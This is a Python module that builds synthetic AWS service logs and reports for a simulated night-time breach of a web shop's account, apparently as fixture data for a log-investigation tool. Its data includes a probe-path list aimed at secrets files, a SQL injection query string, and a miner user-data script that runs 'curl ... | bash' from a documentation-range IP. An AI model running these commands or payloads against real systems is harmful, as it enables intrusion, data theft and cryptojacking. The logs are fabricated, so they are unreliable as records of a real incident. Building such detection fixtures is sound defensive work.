"""The other logs of the account: what its services wrote in the night of the attack, and what it keeps of itself."""
import base64
import gzip
import json
from datetime import timedelta

from account.records import ACCOUNT, ATTACKER, ATTACKER_SERVER, OFFICE, REGION, STRANGER, Names

WEB, DATABASE = "i-0a1b2c3d4e5f60718", "i-0fedcba9876543210"
VPC = "vpc-0123456789abcdef0"
CANONICAL_OWNER = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"  # As AWS's documentation has it.
DISTRIBUTION, DOMAIN = "E2EXAMPLE1ABCD", "d111111abcdef8.cloudfront.net"
BROWSERS = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1")
SCANNER = "python-requests/2.31.0"
PAGES = ("/", "/products", "/products/4711", "/cart", "/assets/shop.css", "/assets/shop.js")
# What somebody asks for who does not know the shop.
PROBES = ("/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/actuator/env", "/server-status", "/backup.sql", "/config.php.bak", "/.aws/credentials",
          "/cgi-bin/luci", "/solr/admin/info/system", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/console/", "/api/v1/pods", "/admin/login", "/old/index.php")
INJECTION = "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"
CLOUDFRONT_FIELDS = ("date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id "
                     "x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields c-port "
                     "time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len sc-range-start sc-range-end")
USER_DATA = """#!/bin/bash
# Web server of the shop.
yum install -y nginx
aws s3 cp s3://example-corp-config/nginx.conf /etc/nginx/nginx.conf
systemctl enable --now nginx
"""
# What the attacker's role in ap-southeast-2 starts its machines with.
MINER_DATA = """#!/bin/bash
export DB_PASSWORD=EXAMPLE-not-a-password
curl -s http://203.0.113.77/m.sh | bash
"""


def rfc3339(time, digits=0):
    return time.strftime("%Y-%m-%dT%H:%M:%S") + ("." + "0" * digits if digits else "") + "Z"


def millis(time):
    return int(time.timestamp() * 1000)


def event(names, time, source, detail_type, detail, resources=()):
    """An event as EventBridge delivers it."""
    return {"version": "0", "id": names.uuid(), "detail-type": detail_type, "source": source, "account": ACCOUNT, "time": rfc3339(time), "region": REGION, "resources": list(resources), "detail": detail}


class Services:
    """`files`: path below examples/logs → its text; those ending in .gz are compressed when written."""

    def __init__(self, random, monday, with_attack):
        self.random, self.names, self.monday, self.with_attack = random, Names("services"), monday, with_attack
        self.night = monday + timedelta(days=3)
        self.files = {}

    def whole_account(self):
        for part in (self.load_balancer, self.distribution, self.firewall, self.bucket, self.resolver, self.guard, self.configuration, self.users, self.event_bus,
                     self.log_groups, self.stacks, self.inventory):
            part()
        return self.files

    def evening(self, minutes):
        """Times of ordinary requests from 22:00 to 06:00, one or two in each step."""
        time = self.night - timedelta(hours=2)
        while time < self.night + timedelta(hours=6):
            for _ in range(self.random.choice((1, 1, 2))):
                yield time + timedelta(seconds=self.random.randrange(60 * minutes))
            time += timedelta(minutes=minutes)

    def probing(self):
        """(time, path, query) of the attacker's requests, from 02:09 on."""
        if self.with_attack:
            start = self.night + timedelta(hours=2, minutes=9)
            for number, path in enumerate(PROBES * 2):
                yield start + timedelta(seconds=4 * number), path, "-"
            for number in range(6):
                yield start + timedelta(seconds=140 + 5 * number), "/products", INJECTION

    def visitor(self):
        return "198.51.100.%d" % self.random.randrange(60, 250)

    def load_balancer(self):
        lines = []

        def line(time, client, path, query, status, agent):
            target = "10.20.1.15:443" if status != 403 else "-"
            lines.append((time, 'h2 %s app/shop/50dc6c495c0c9188 %s:%d %s 0.001 0.0%02d 0.000 %d %s 310 %d "GET https://shop.example.com:443%s%s HTTP/2.0" "%s" TLS_AES_128_GCM_SHA256 TLSv1.3 '
                          'arn:aws:elasticloadbalancing:%s:%s:targetgroup/shop/73e2d6bc24d8a067 "Root=1-%08x-%s" "shop.example.com" "arn:aws:acm:%s:%s:certificate/12345678-1234-1234-1234-123456789012" '
                          '0 %s "%s" "-" "-" "%s" "%s" "-" "-" TID_%s' % (
                              rfc3339(time, 6), client, self.random.randrange(20000, 65000), target, self.random.randrange(99), status, status if target != "-" else "-", self.random.randrange(400, 40000), path,
                              "" if query == "-" else "?" + query, agent, REGION, ACCOUNT, int(time.timestamp()), self.names.hexadecimal(24), REGION, ACCOUNT, rfc3339(time, 6), "waf,forward" if status != 403 else "waf", target,
                              status if target != "-" else "-", self.names.hexadecimal(32))))
        for time in self.evening(4):
            line(time, self.visitor(), self.random.choice(PAGES), "-", self.random.choice((200, 200, 200, 304)), self.random.choice(BROWSERS))
        for time, path, query in self.probing():
            line(time, ATTACKER, path, query, 403 if query != "-" else 404, SCANNER)
        self.hourly(lines, lambda end: "AWSLogs/%s/elasticloadbalancing/%s/%s/%s_elasticloadbalancing_%s_app.shop.50dc6c495c0c9188_%s_203.0.113.9_%s.log.gz" % (
            ACCOUNT, REGION, end.strftime("%Y/%m/%d"), ACCOUNT, REGION, end.strftime("%Y%m%dT%H%MZ"), self.names.hexadecimal(8)))

    def hourly(self, lines, path, header=""):
        """Puts (time, line) pairs into one object an hour."""
        hours = {}
        for time, text in sorted(lines, key=lambda pair: pair[0]):
            hours.setdefault(time.replace(minute=0, second=0, microsecond=0) + timedelta(hours=1), []).append(text)
        for end, texts in hours.items():
            self.files[path(end)] = header + "\n".join(texts) + "\n"

    def distribution(self):
        lines = []

        def line(time, client, path, query, status, result, agent):
            lines.append((time, "\t".join((time.strftime("%Y-%m-%d"), time.strftime("%H:%M:%S"), "IAD89-C1", str(self.random.randrange(300, 40000)), client, "GET", DOMAIN, path, str(status), "-", agent.replace(" ", "%20"), query, "-", result,
                                           self.names.letters(54) + "==", "shop.example.com", "https", "310", "0.0%02d" % self.random.randrange(99), "-", "TLSv1.3", "TLS_AES_128_GCM_SHA256", result, "HTTP/2.0", "-", "-",
                                           str(self.random.randrange(20000, 65000)), "0.0%02d" % self.random.randrange(99), result, "text/html", "-", "-", "-"))))
        for time in self.evening(5):
            line(time, self.visitor(), self.random.choice(PAGES), "-", 200, self.random.choice(("Hit", "Hit", "Miss", "RefreshHit")), self.random.choice(BROWSERS))
        for time, path, query in self.probing():
            line(time, ATTACKER, path, query, 404 if query == "-" else 403, "Error", SCANNER)
        self.hourly(lines, lambda end: "cloudfront/%s.%s.%s.gz" % (DISTRIBUTION, (end - timedelta(hours=1)).strftime("%Y-%m-%d-%H"), self.names.hexadecimal(8)),
                    "#Version: 1.0\n#Fields: %s\n" % CLOUDFRONT_FIELDS)

    def firewall(self):
        lines = []
        acl = "arn:aws:wafv2:%s:%s:regional/webacl/shop/5933d6d9-9dde-4d0c-a9c2-EXAMPLE11111" % (REGION, ACCOUNT)

        def line(time, client, path, query, action, rule, agent):
            group = "REGULAR" if rule == "Default_Action" else "MANAGED_RULE_GROUP"
            lines.append((time, json.dumps({
                "timestamp": millis(time), "formatVersion": 1, "webaclId": acl, "terminatingRuleId": rule, "terminatingRuleType": group, "action": action, "terminatingRuleMatchDetails": [],
                "httpSourceName": "ALB", "httpSourceId": "%s-app/shop/50dc6c495c0c9188" % ACCOUNT, "ruleGroupList": [], "rateBasedRuleList": [], "nonTerminatingMatchingRules": [], "responseCodeSent": None,
                "httpRequest": {"clientIp": client, "country": "US", "headers": [{"name": "Host", "value": "shop.example.com"}, {"name": "User-Agent", "value": agent}], "uri": path, "args": "" if query == "-" else query,
                                "httpVersion": "HTTP/2.0", "httpMethod": "GET", "requestId": "1-%08x-%s" % (int(time.timestamp()), self.names.hexadecimal(24))}}, separators=(",", ":"))))
        for time in self.evening(20):
            line(time, self.visitor(), self.random.choice(PAGES), "-", "ALLOW", "Default_Action", self.random.choice(BROWSERS))
        for time, path, query in self.probing():
            line(time, ATTACKER, path, query, "BLOCK" if query != "-" else "ALLOW", "AWS-AWSManagedRulesSQLiRuleSet" if query != "-" else "Default_Action", SCANNER)
        self.hourly(lines, lambda end: "AWSLogs/%s/WAFLogs/%s/shop/%s/%s_waflogs_%s_shop_%s_%s.log.gz" % (
            ACCOUNT, REGION, end.strftime("%Y/%m/%d/%H/%M"), ACCOUNT, REGION, end.strftime("%Y%m%dT%H%MZ"), self.names.hexadecimal(8)))

    def bucket(self):
        """Server access logs of the payroll bucket: the nightly copy, and in the attack's hour every object. Not compressed, as S3 delivers them."""
        lines = []

        def line(time, client, requester, key, agent):
            lines.append((time, '%s example-corp-payroll [%s] %s %s %s REST.GET.OBJECT %s "GET /%s HTTP/1.1" 200 - %d %d %d %d "-" "%s" - %s= SigV4 TLS_AES_128_GCM_SHA256 AuthHeader example-corp-payroll.s3.%s.amazonaws.com TLSv1.3 - -' % (
                CANONICAL_OWNER, time.strftime("%d/%b/%Y:%H:%M:%S +0000"), client, requester, self.names.letters(16), key, key, 48000, 48000, self.random.randrange(20, 90), self.random.randrange(10, 20), agent, self.names.letters(75), REGION)))
        backup = "arn:aws:iam::%s:user/legacy-backup" % ACCOUNT
        for number in range(6):
            line(self.night + timedelta(hours=1, minutes=5, seconds=7 * number), "198.51.100.40", backup, "2026/02/payroll-%02d.csv" % number, "aws-cli/1.18.69 Python/3.6.9 Linux/4.15.0 botocore/1.16.19")
        if self.with_attack:
            for number in range(528):
                line(self.night + timedelta(hours=3, minutes=2, seconds=9 + number // 2), ATTACKER, "arn:aws:iam::%s:user/support-automation" % ACCOUNT, "%d/%02d/payroll-%03d.csv" % (2022 + number // 132, number % 12 + 1, number), "Boto3/1.34.40 md/Botocore#1.34.40 ua/2.0 os/linux")
        self.hourly(lines, lambda end: "s3-access-logs/%s-%s" % (end.strftime("%Y-%m-%d-%H-%M-%S"), self.names.letters(16)))

    def resolver(self):
        lines = []

        def line(time, name, instance, code="NOERROR", kind="A", **more):
            lines.append((time, json.dumps({
                "version": "1.100000", "account_id": ACCOUNT, "region": REGION, "vpc_id": VPC, "query_timestamp": rfc3339(time), "query_name": name, "query_type": kind, "query_class": "IN", "rcode": code, "answers": [],
                "srcaddr": "10.20.1.15" if instance == WEB else "10.20.2.30", "srcport": str(self.random.randrange(32768, 60999)), "transport": "UDP", "srcids": {"instance": instance}, **more}, separators=(",", ":"))))
        for time in self.evening(12):
            line(time, self.random.choice(("s3.us-east-1.amazonaws.com.", "secretsmanager.us-east-1.amazonaws.com.", "mirror.example.net.", "orders.abcdefghijkl.us-east-1.rds.amazonaws.com.")), self.random.choice((WEB, WEB, DATABASE)))
        if self.with_attack:
            for number in range(60):  # What left the network by names.
                line(self.night + timedelta(hours=2, minutes=31, seconds=3 * number), "%s.%s.t.example.org." % (self.names.letters(60, "abcdefghijklmnopqrstuvwxyz234567"), self.names.letters(20, "abcdefghijklmnopqrstuvwxyz234567")), WEB, kind="TXT")
            line(self.night + timedelta(hours=2, minutes=29), "pool.miner.example.org.", WEB, firewall_rule_group_id="rslvr-frg-0123456789abcdef", firewall_rule_action="ALERT", firewall_domain_list_id="rslvr-fdl-0123456789abcdef")
        self.hourly(lines, lambda end: "AWSLogs/%s/vpcdnsquerylogs/%s/%s/%s_vpcdnsquerylogs_%s_%s_%s.log.gz" % (
            ACCOUNT, VPC, end.strftime("%Y/%m/%d"), ACCOUNT, VPC, end.strftime("%Y%m%dT%H%MZ"), self.names.hexadecimal(8)))

    def guard(self):
        """GuardDuty's export: one quiet finding of Tuesday, and what it saw of the attack."""
        def finding(time, kind, severity, resource, action, title):
            identity = self.names.hexadecimal(32)
            return rfc3339(time), json.dumps({
                "schemaVersion": "2.0", "accountId": ACCOUNT, "region": REGION, "partition": "aws", "id": identity, "arn": "arn:aws:guardduty:%s:%s:detector/12abc34d567e8fa901bc2d34e56789f0/finding/%s" % (REGION, ACCOUNT, identity), "type": kind,
                "resource": resource, "service": {"serviceName": "guardduty", "detectorId": "12abc34d567e8fa901bc2d34e56789f0", "action": action, "archived": False, "count": 1, "eventFirstSeen": rfc3339(time), "eventLastSeen": rfc3339(time)},
                "severity": severity, "createdAt": rfc3339(time + timedelta(minutes=9), 3), "updatedAt": rfc3339(time + timedelta(minutes=9), 3), "title": title, "description": title + "."}, separators=(",", ":"))
        instance = {"resourceType": "Instance", "instanceDetails": {"instanceId": WEB, "instanceType": "m5.large", "tags": [{"key": "Name", "value": "web"}]}}
        key = {"resourceType": "AccessKey", "accessKeyDetails": {"accessKeyId": "AKIASUPPORTA1EXAMPLE", "principalId": "AIDACKCEVSQ6C2EXAMPLE", "userName": "support-automation", "userType": "IAMUser"}}

        def call(api, service):
            return {"actionType": "AWS_API_CALL", "awsApiCallAction": {"api": api, "serviceName": service, "callerType": "Remote IP", "remoteIpDetails": {"ipAddressV4": ATTACKER}}}
        probe = {"actionType": "PORT_PROBE", "portProbeAction": {"blocked": False, "portProbeDetails": [{"localPortDetails": {"port": 443, "portName": "HTTPS"}, "remoteIpDetails": {"ipAddressV4": "192.0.2.200"}}]}}
        days = {}
        for stamp, text in [finding(self.monday + timedelta(days=1, hours=9), "Recon:EC2/PortProbeUnprotectedPort", 2, instance, probe, "Unprotected port on EC2 instance %s is being probed" % WEB)] + ([] if not self.with_attack else [
                finding(self.night + timedelta(hours=2, minutes=14), "Stealth:IAMUser/CloudTrailLoggingDisabled", 2, key, call("StopLogging", "cloudtrail.amazonaws.com"), "AWS CloudTrail trail application-audit was disabled by support-automation"),
                finding(self.night + timedelta(hours=2, minutes=35), "Trojan:EC2/DNSDataExfiltration", 8, instance, {"actionType": "DNS_REQUEST", "dnsRequestAction": {"domain": "t.example.org", "protocol": "UDP", "blocked": False}}, "Data exfiltration through DNS queries from EC2 instance %s" % WEB),
                finding(self.night + timedelta(hours=3, minutes=5), "Exfiltration:S3/AnomalousBehavior", 8, key, call("GetObject", "s3.amazonaws.com"), "User support-automation read objects of an S3 bucket in an unusual way")]):
            days.setdefault(stamp[:10], []).append(text)
        for day, texts in days.items():
            self.files["AWSLogs/%s/GuardDuty/%s/%s/%s.jsonl.gz" % (ACCOUNT, REGION, day.replace("-", "/"), self.names.uuid())] = "\n".join(texts) + "\n"

    def configuration(self):
        """AWS Config's history of the web server's security group: port 22 comes and goes."""
        def item(time, state, ranges):
            permissions = [{"fromPort": port, "toPort": port, "ipProtocol": "tcp", "ipRanges": [where], "ipv4Ranges": [{"cidrIp": where}], "ipv6Ranges": [], "prefixListIds": [], "userIdGroupPairs": []} for port, where in ranges]
            return {"configurationItemVersion": "1.3", "configurationItemCaptureTime": rfc3339(time, 3), "configurationStateId": state, "awsAccountId": ACCOUNT, "configurationItemStatus": "OK", "resourceId": "sg-0123456789abcdef0",
                    "resourceName": "web", "ARN": "arn:aws:ec2:%s:%s:security-group/sg-0123456789abcdef0" % (REGION, ACCOUNT), "resourceType": "AWS::EC2::SecurityGroup", "awsRegion": REGION, "availabilityZone": "Not Applicable",
                    "configurationStateMd5Hash": "", "relatedEvents": [], "relationships": [], "tags": {"Name": "web"}, "supplementaryConfiguration": {},
                    "configuration": {"description": "web servers", "groupName": "web", "groupId": "sg-0123456789abcdef0", "ipPermissions": permissions, "ipPermissionsEgress": [], "ownerId": ACCOUNT, "vpcId": VPC}}
        web = [(443, "0.0.0.0/0")]
        items = [(self.monday + timedelta(hours=6), item(self.monday + timedelta(hours=6), 1, web))]
        if self.with_attack:
            opened, closed = self.night + timedelta(hours=2, minutes=24), self.night + timedelta(days=1, hours=11, minutes=16)
            items += [(opened, item(opened, 2, web + [(22, "0.0.0.0/0")])), (closed, item(closed, 3, web))]
        for time, found in items:
            end = time + timedelta(hours=6)
            name = "%s_Config_%s_ConfigHistory_AWS::EC2::SecurityGroup_%s_%s_1.json.gz" % (ACCOUNT, REGION, time.strftime("%Y%m%dT%H%M%SZ"), end.strftime("%Y%m%dT%H%M%SZ"))
            self.files["AWSLogs/%s/Config/%s/%d/%d/%d/ConfigHistory/%s" % (ACCOUNT, REGION, time.year, time.month, time.day, name)] = json.dumps({"fileVersion": "1.0", "configurationItems": [found]}, separators=(",", ":"))

    def users(self):
        """The credential report of Monday and of Friday: `trawl diff --kind iam` tells what came."""
        header = ("user,arn,user_creation_time,password_enabled,password_last_used,password_last_changed,password_next_rotation,mfa_active,access_key_1_active,access_key_1_last_rotated,access_key_1_last_used_date,"
                  "access_key_1_last_used_region,access_key_1_last_used_service,access_key_2_active,access_key_2_last_rotated,access_key_2_last_used_date,access_key_2_last_used_region,access_key_2_last_used_service,"
                  "cert_1_active,cert_1_last_rotated,cert_2_active,cert_2_last_rotated")

        def row(name, created, password, mfa, key, rotated="N/A", used="N/A"):
            arn = "arn:aws:iam::%s:%s" % (ACCOUNT, "root" if name == "<root_account>" else "user/" + name)
            return ",".join((name, arn, created, password, "2026-03-02T08:01:00+00:00" if password == "true" else "N/A", created if password == "true" else "N/A", "N/A", mfa, key, rotated, used, REGION if used != "N/A" else "N/A",
                             "s3" if used != "N/A" else "N/A", "false", "N/A", "N/A", "N/A", "N/A", "false", "N/A", "false", "N/A"))
        rows = [row("<root_account>", "2019-05-06T07:08:09+00:00", "not_supported", "true", "false"), row("alice", "2026-01-12T09:00:00+00:00", "true", "true", "false"), row("bob", "2026-01-12T09:05:00+00:00", "true", "true", "false"),
                row("carol", "2026-01-12T09:10:00+00:00", "true", "true", "false"), row("legacy-backup", "2026-01-20T10:00:00+00:00", "false", "false", "true", "2026-01-20T10:00:00+00:00", "2026-03-02T01:05:00+00:00")]
        late = rows + ([row("support-automation", "2026-03-05T01:52:40+00:00", "true", "false", "true", "2026-03-05T01:53:20+00:00", "2026-03-05T03:41:00+00:00")] if self.with_attack else [])
        for day, report in (("2026-03-02", rows), ("2026-03-06", late)):
            self.files["reports/credential-report-%s.csv" % day] = "\n".join([header, *report]) + "\n"

    def event_bus(self):
        """Events of EventBridge, as Firehose puts them into objects: one after another."""
        snapshot = "arn:aws:ec2::%s:snapshot/snap-0123456789abcdef0" % REGION
        certificate = "arn:aws:acm:%s:%s:certificate/12345678-1234-1234-1234-123456789012" % (REGION, ACCOUNT)
        copied = self.monday + timedelta(days=2, hours=3)
        events = [event(self.names, copied, "aws.ec2", "EBS Snapshot Notification", {"event": "createSnapshot", "result": "succeeded", "cause": "", "request-id": "", "snapshot_id": snapshot, "source": "arn:aws:ec2::%s:volume/vol-0123456789abcdef0" % REGION,
                                                                                    "startTime": rfc3339(copied - timedelta(minutes=4)), "endTime": rfc3339(copied)}, [snapshot]),
                  event(self.names, self.monday + timedelta(hours=12), "aws.acm", "ACM Certificate Approaching Expiration", {"DaysToExpiry": 31, "CommonName": "shop.example.com"}, [certificate]),
                  event(self.names, self.monday + timedelta(days=1, hours=2), "aws.rds", "RDS DB Instance Event", {"EventCategories": ["backup"], "SourceType": "DB_INSTANCE", "SourceArn": "arn:aws:rds:%s:%s:db:orders" % (REGION, ACCOUNT),
                                                                                                                   "Date": rfc3339(self.monday + timedelta(days=1, hours=2), 3), "Message": "Finished DB Instance backup", "SourceIdentifier": "orders", "EventID": "RDS-EVENT-0002"}),
                  event(self.names, self.monday + timedelta(days=1, hours=10), "aws.es", "Amazon OpenSearch Service Software Update Notification", {"event": "Service Software Update", "status": "Available", "severity": "Informational",
                                                                                                                                                   "description": "A new software update is available."}, ["arn:aws:es:%s:%s:domain/search" % (REGION, ACCOUNT)]),
                  event(self.names, self.monday + timedelta(days=2, hours=4), "aws.glue", "Glue Job State Change", {"jobName": "orders-etl", "severity": "INFO", "state": "SUCCEEDED", "jobRunId": "jr_0123456789abcdef", "message": "Job run succeeded"}),
                  event(self.names, self.monday + timedelta(days=2, hours=9), "aws.elasticbeanstalk", "Elastic Beanstalk resource status change", {"Status": "Environment update completed successfully", "EventDate": millis(self.monday + timedelta(days=2, hours=9)),
                                                                                                                                                  "ApplicationName": "shop-admin", "Message": "Environment update completed successfully.", "EnvironmentName": "shop-admin-prod", "Severity": "INFO"})]
        if self.with_attack:
            shared = self.night + timedelta(hours=2, minutes=48, seconds=9)
            events.append(event(self.names, shared, "aws.ec2", "EBS Snapshot Notification", {"event": "shareSnapshot", "result": "succeeded", "cause": "", "request-id": "", "snapshot_id": snapshot, "source": STRANGER,
                                                                                             "startTime": rfc3339(shared - timedelta(seconds=3)), "endTime": rfc3339(shared)}, [snapshot]))
        self.files["events/2026/03/05/04/events-1-2026-03-05-04-00-00-%s.gz" % self.names.uuid()] = "".join(json.dumps(e, separators=(",", ":")) for e in events)

    def log_groups(self):
        """CloudWatch log groups through subscription filters and Firehose: payloads one after another."""
        payloads = []

        def payload(group, stream, messages):
            """`messages`: (time, text) pairs."""
            payloads.append((messages[0][0], json.dumps({
                "messageType": "DATA_MESSAGE", "owner": ACCOUNT, "logGroup": group, "logStream": stream, "subscriptionFilters": ["to-firehose"],
                "logEvents": [{"id": "%056d" % self.random.getrandbits(180), "timestamp": millis(time), "message": text} for time, text in messages]}, separators=(",", ":"))))
        for hour in range(6):
            start = self.night + timedelta(hours=hour, minutes=20)
            request = self.names.uuid()
            payload("/aws/lambda/orders-function", "2026/03/05/[$LATEST]0123456789abcdef0123456789abcdef", [
                (start, "START RequestId: %s Version: $LATEST\n" % request), (start + timedelta(milliseconds=40), json.dumps({"level": "INFO", "message": "orders read", "count": self.random.randrange(40)})),
                (start + timedelta(milliseconds=90), "END RequestId: %s\n" % request), (start + timedelta(milliseconds=90), "REPORT RequestId: %s\tDuration: 91.20 ms\tBilled Duration: 92 ms\tMemory Size: 256 MB\tMax Memory Used: 81 MB\t\n" % request)])
            zone = start.strftime("%Y-%m-%d %H:%M:%S UTC")
            payload("/aws/rds/instance/orders/postgresql", "orders", [
                (start, "%s:10.20.1.15(48808):shop@orders:[18762]:LOG:  connection authorized: user=shop database=orders SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)" % zone)])
            payload("AWSIotLogsV2", "default", [(start, json.dumps({
                "timestamp": start.strftime("%Y-%m-%d %H:%M:%S.000"), "logLevel": "INFO", "traceId": self.names.uuid(), "accountId": ACCOUNT, "status": "Success", "eventType": "Connect", "protocol": "MQTT", "clientId": "thermometer-%d" % (hour + 1),
                "principalId": self.names.hexadecimal(64), "sourceIp": OFFICE, "sourcePort": 50123 + hour}))])
        crawl = self.names.uuid()
        start = self.night + timedelta(hours=4)
        payload("/aws-glue/crawlers", "sales", [(start + timedelta(seconds=number), "[%s] %s" % (crawl, text)) for number, text in enumerate((
            "BENCHMARK : Running Start Crawl for Crawler sales", "BENCHMARK : Classification complete, writing results to database sales", "INFO : Crawler configured with SchemaChangePolicy {\"UpdateBehavior\":\"UPDATE_IN_DATABASE\"}.", "BENCHMARK : Crawler has finished running and is in state READY"))])
        payload("/aws/elasticbeanstalk/shop-admin-prod/var/log/eb-engine.log", "i-0aaaabbbbccccdddd", [(start, start.strftime("%Y/%m/%d %H:%M:%S.123456 [INFO] Executing instruction: StageApplication"))])
        audit = {"audit_cluster_name": "%s:search" % ACCOUNT, "audit_node_name": "0123456789abcdef", "audit_rest_request_method": "POST", "audit_category": "AUTHENTICATED", "audit_request_origin": "REST", "audit_node_id": "abc",
                 "audit_request_layer": "REST", "@timestamp": rfc3339(start, 3), "audit_format_version": 4, "audit_request_remote_address": "10.20.1.15", "audit_rest_request_path": "/orders/_search", "audit_request_effective_user": "shop"}
        payload("/aws/OpenSearchService/domains/search/audit-logs", "search", [(start, json.dumps(audit))])
        if self.with_attack:
            start = self.night + timedelta(hours=2, minutes=26)
            payload("/aws/rds/instance/orders/postgresql", "orders", [
                (start + timedelta(seconds=2 * number), "%s:10.20.1.15(5%04d):%s@orders:[190%02d]:FATAL:  password authentication failed for user \"%s\"" % ((start + timedelta(seconds=2 * number)).strftime("%Y-%m-%d %H:%M:%S UTC"), number, user, number, user))
                for number, user in enumerate(("postgres", "admin", "root", "orders", "rdsadmin", "app", "backup", "postgres", "admin", "postgres", "dba", "postgres"))])
        hours = {}
        for time, text in sorted(payloads, key=lambda pair: pair[0]):
            hours.setdefault(time.replace(minute=0, second=0, microsecond=0), []).append(text)
        for hour, texts in hours.items():
            self.files["log-groups/%s/to-s3-1-%s-%s.gz" % (hour.strftime("%Y/%m/%d/%H"), hour.strftime("%Y-%m-%d-%H-%M-%S"), self.names.uuid())] = "".join(texts)

    def stacks(self):
        """What `aws cloudformation describe-stack-events` and `describe-stacks` print."""
        stack = "arn:aws:cloudformation:%s:%s:stack/shop/466df9e0-0dff-08e3-8e2f-5088487c4896" % (REGION, ACCOUNT)
        start = self.monday + timedelta(days=1, hours=8)
        steps = [("shop", stack, "AWS::CloudFormation::Stack", "UPDATE_IN_PROGRESS"), ("LaunchTemplate", "lt-0123456789abcdef0", "AWS::EC2::LaunchTemplate", "UPDATE_COMPLETE"), ("shop", stack, "AWS::CloudFormation::Stack", "UPDATE_COMPLETE")]
        events = [{"StackId": stack, "EventId": self.names.uuid(), "StackName": "shop", "LogicalResourceId": logical, "PhysicalResourceId": physical, "ResourceType": kind, "Timestamp": rfc3339(start + timedelta(minutes=number), 6), "ResourceStatus": status}
                  for number, (logical, physical, kind, status) in enumerate(steps)]
        self.files["reports/stack-events-2026-03-06.json"] = json.dumps({"StackEvents": events}, indent=2) + "\n"
        self.files["reports/stacks-2026-03-06.json"] = json.dumps({"Stacks": [{
            "StackId": stack, "StackName": "shop", "CreationTime": rfc3339(self.monday - timedelta(days=200), 6), "LastUpdatedTime": rfc3339(start, 6), "StackStatus": "UPDATE_COMPLETE", "Capabilities": ["CAPABILITY_IAM"], "EnableTerminationProtection": True}]}, indent=2) + "\n"

    def inventory(self):
        """What the company keeps of its instances, its line and its search domain, day by day."""
        for day, machines in (("2026-03-04", [(WEB, USER_DATA)]), ("2026-03-06", [(WEB, USER_DATA)] + ([("i-0999988887777aaaa", MINER_DATA)] if self.with_attack else []))):
            for machine, text in machines:
                # As the API gives it; the second one compressed as well.
                value = base64.b64encode(gzip.compress(text.encode(), mtime=0) if text is MINER_DATA else text.encode()).decode()
                self.files["reports/user-data-%s-%s.json" % (machine, day)] = json.dumps({"InstanceId": machine, "UserData": {"Value": value}}, indent=2) + "\n"
        self.files["reports/direct-connect-2026-03-06.json"] = json.dumps({"connections": [{
            "ownerAccount": ACCOUNT, "connectionId": "dxcon-fg31dyv6", "connectionName": "office", "connectionState": "available", "region": REGION, "location": "EqDC2", "bandwidth": "1Gbps", "vlan": 101, "encryptionMode": "no_encrypt"}]}, indent=2) + "\n"
        self.files["reports/search-domain-2026-03-06.json"] = json.dumps({"DomainStatus": {
            "DomainId": "%s/search" % ACCOUNT, "DomainName": "search", "ARN": "arn:aws:es:%s:%s:domain/search" % (REGION, ACCOUNT), "Created": True, "Deleted": False, "Processing": False, "EngineVersion": "OpenSearch_2.11",
            "EncryptionAtRestOptions": {"Enabled": True}, "NodeToNodeEncryptionOptions": {"Enabled": True}, "DomainEndpointOptions": {"EnforceHTTPS": True, "TLSSecurityPolicy": "Policy-Min-TLS-1-2-2019-07"}}}, indent=2) + "\n"
